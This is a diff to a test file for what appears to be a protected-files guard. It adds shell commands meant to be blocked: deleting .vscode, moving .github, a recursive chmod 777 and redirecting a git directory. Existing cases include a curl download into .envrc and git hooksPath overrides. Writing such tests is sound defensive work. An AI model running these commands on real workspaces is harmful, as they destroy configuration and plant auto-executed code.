@@ -32,6 +32,10 @@ touch $'.env\x{72}c'
 sort -bbbbbbbbbbbo.envrc in
 curl -fsSLfsSLo.envrc http://a
 git init --templ=evil
+git init --separate-git-dir=evil
+rm -rf ./.vsc*
+mv .gith* evil
+chmod -R 777 .v*
 git clone --conf core.hooksPath=x a b
 git clone -qc core.hooksPath=x a b
 /usr/lib/git-core/git-config core.hooksPath evil
@@ -512,7 +516,8 @@ def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     for cached in (protected_files._patterns, protected_files._by_first_part, protected_files._places_in):
         cached.cache_clear()
     root = tmp_path / "workspace"
-    for name in ("x/.envrc", "y/hooks/z", "gh/workflows/a.yml", "src/a.py", ".envrc", ".git/config"):
+    names = ("x/.envrc", "y/hooks/z", "gh/workflows/a.yml", "src/a.py", ".envrc", ".git/config")
+    for name in (*names, ".vscode/x", ".github/x"):
         (root / name).parent.mkdir(parents=True, exist_ok=True)
         (root / name).write_text("")
     return root
